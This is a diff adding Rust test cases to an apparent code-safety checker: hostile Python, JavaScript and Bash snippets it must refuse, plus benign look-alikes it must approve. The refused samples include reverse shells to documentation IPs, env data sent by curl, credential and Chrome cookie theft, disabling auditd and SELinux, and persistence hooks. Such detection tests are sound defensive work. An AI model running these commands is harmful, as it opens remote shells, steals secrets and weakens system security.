@@ -2534,6 +2534,97 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "run-interpreter",
     2
 )]
+#[case::py_command_prepared_in_a_partial(
+    crate::Lang::Python,
+    "import subprocess, functools\nrun = functools.partial(subprocess.run, check=False)\nwrite_tab = functools.partial(run, [\"crontab\", \"-\"])\nwrite_tab(input=job)\n",
+    Verdict::Major,
+    "run-system-tool",
+    3
+)]
+#[case::py_security_commands_in_tuples(
+    crate::Lang::Python,
+    "import subprocess\nQUIET = ((\"systemctl\", \"stop\", \"auditd\"), (\"setenforce\", \"0\"))\nfor c in QUIET:\n    subprocess.run((\"sudo\", \"-n\", *c))\n",
+    Verdict::Major,
+    "disables-security-tool",
+    2
+)]
+#[case::py_dev_tcp_in_a_multi_line_string(
+    crate::Lang::Python,
+    "import json\nCONFIG = json.loads(r\"\"\"\n{\"args\": [\"/bin/bash\", \"-c\", \"exec bash -i >& /dev/tcp/203.0.113.29/443 0>&1\"]}\n\"\"\")\n",
+    Verdict::Major,
+    "holds-dev-tcp",
+    2
+)]
+#[case::py_runner_named_for_a_factory(
+    crate::Lang::Python,
+    "import logging.config\nlogging.config.dictConfig({\"version\": 1, \"filters\": {\"c\": {\"()\": \"subprocess.Popen\", \"args\": [\"ls\"]}}})\n",
+    Verdict::Major,
+    "names-process-runner",
+    2
+)]
+#[case::py_cookies_of_chrome(
+    crate::Lang::Python,
+    "from pathlib import Path\nimport shutil\nshutil.copy(Path(\"~/.config/google-chrome/Default/Cookies\").expanduser(), \"c.db\")\n",
+    Verdict::Major,
+    "names-credential-file",
+    3
+)]
+#[case::py_delete_what_a_walk_of_home_finds(
+    crate::Lang::Python,
+    "from pathlib import Path\nROOT = Path(\"~\").expanduser()\nfor old in ROOT.rglob(\"*.csv\"):\n    old.unlink(missing_ok=True)\n",
+    Verdict::Major,
+    "py-delete-walk-home",
+    4
+)]
+#[case::js_overrides_pointed_at_a_url(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nconst FORKS = \"http://203.0.113.150/forks\";\nconst pkg = JSON.parse(fs.readFileSync(\"package.json\", \"utf8\"));\npkg.overrides = pkg.overrides || {};\npkg.overrides[name] = `${FORKS}/${name}.tgz`;\nfs.writeFileSync(\"package.json\", JSON.stringify(pkg));\n",
+    Verdict::Major,
+    "js-dependency-from-url",
+    2
+)]
+#[case::sh_network_tool_past_nohup(
+    crate::Lang::Bash,
+    "RELAY=203.0.113.45\n(nohup nc \"$RELAY\" 5432 -e /bin/bash >/dev/null 2>&1 &)\n",
+    Verdict::Major,
+    "run-network-tool",
+    2
+)]
+#[case::sh_program_named_by_a_glob(
+    crate::Lang::Bash,
+    "env | /u*/b?n/c?r[l] -s --data-binary @- http://198.51.100.77/t\n",
+    Verdict::Major,
+    "sh-glob-program",
+    1
+)]
+#[case::sh_credentials_named_by_a_glob(
+    crate::Lang::Bash,
+    "cat ~/.k?be/c?nf?g ~/.a?s/cr*s > out.txt\n",
+    Verdict::Major,
+    "names-credential-file",
+    1
+)]
+#[case::sh_builtin_loaded_from_a_shared_object(
+    crate::Lang::Bash,
+    "so=\"$PWD/json.so\"\nenable -f \"$so\" json\n",
+    Verdict::Rejected,
+    "sh-load-builtin",
+    2
+)]
+#[case::sh_socat_shell_held_in_a_variable(
+    crate::Lang::Bash,
+    "relay_b=exec:'bash -li',pty,stderr\nrelay_c=tcp:203.0.113.64:8443\n",
+    Verdict::Major,
+    "holds-socket-shell",
+    1
+)]
+#[case::sh_ipython_start_up_file(
+    crate::Lang::Bash,
+    "d=\"$HOME/.ipython/profile_default/startup\"\nmkdir -p \"$d\"\necho 'import os' > \"$d/00-env.py\"\n",
+    Verdict::Major,
+    "names-start-up-file",
+    3
+)]
 fn blind_set_families_are_refused(
     #[case] lang: crate::Lang,
     #[case] source: &str,
@@ -2669,6 +2760,50 @@ fn blind_set_families_are_refused(
 #[case::sh_parent_of_the_working_dir(
     crate::Lang::Bash,
     "root=$(cd \"$(dirname \"$0\")/..\" && pwd)\ncd \"$root\"\nls ../\n"
+)]
+#[case::py_test_patches_a_runner(
+    crate::Lang::Python,
+    "from unittest import mock\nimport app\nwith mock.patch(\"subprocess.run\") as run:\n    app.main()\n    assert run.called\n"
+)]
+#[case::py_ordinary_commands_in_tuples(
+    crate::Lang::Python,
+    "import subprocess\nSTEPS = ((\"git\", \"status\"), (\"make\", \"test\"))\nfor s in STEPS:\n    subprocess.run(s, check=True)\n"
+)]
+#[case::py_loopback_dev_tcp_in_a_string(
+    crate::Lang::Python,
+    "PROBE = \"\"\"\nexec 3<>/dev/tcp/127.0.0.1/5432\n\"\"\"\nprint(PROBE)\n"
+)]
+#[case::py_own_breakpoint_hook(
+    crate::Lang::Python,
+    "import sys\n\ndef pause(*args):\n    print(\"paused\", args)\n\nsys.breakpointhook = pause\n"
+)]
+#[case::py_delete_what_a_walk_of_the_checkout_finds(
+    crate::Lang::Python,
+    "from pathlib import Path\nfor old in Path(\"build\").rglob(\"*.pyc\"):\n    old.unlink()\n"
+)]
+#[case::js_overrides_pinned_to_versions(
+    crate::Lang::JavaScript,
+    "const fs = require(\"fs\");\nconst pkg = JSON.parse(fs.readFileSync(\"package.json\", \"utf8\"));\npkg.overrides = { semver: \"^7.5.4\" };\npkg.homepage = \"https://example.org\";\nfs.writeFileSync(\"package.json\", JSON.stringify(pkg));\n"
+)]
+#[case::sh_array_elements_assigned(
+    crate::Lang::Bash,
+    "declare -A n=()\nfor k in a b; do\n  n[$k]=$(( ${n[$k]:-0} + 1 ))\n  args+=(\"$k\")\ndone\n"
+)]
+#[case::sh_case_patterns_and_special_parameters(
+    crate::Lang::Bash,
+    "case $1 in\n  *.a) ar tv \"$1\" ;;\n  (*[!:]:) PATH=\"$PATH:\" ;;\nesac\ncat <<EOT\n$*\nEOT\n"
+)]
+#[case::js_git_subcommands_in_lists(
+    crate::Lang::JavaScript,
+    "const { spawn } = require(\"child_process\");\nconst git = (args) => spawn(\"git\", args);\ngit([\"init\"]);\ngit([\"checkout\", ref]);\n"
+)]
+#[case::py_git_init_prepared(
+    crate::Lang::Python,
+    "import subprocess, functools\ngit = functools.partial(subprocess.run, check=True)\ngit([\"git\", \"init\"])\nsteps = [(\"init\",), (\"status\",)]\n"
+)]
+#[case::sh_globs_of_project_files(
+    crate::Lang::Bash,
+    "for f in src/*.c; do cc -c \"$f\"; done\nls ./build/*.o\ncat ~/project/*.md > all.md\n"
 )]
 fn blind_set_look_alikes_are_approved(#[case] lang: crate::Lang, #[case] source: &str) {
     let answer = judge_source(lang, source);
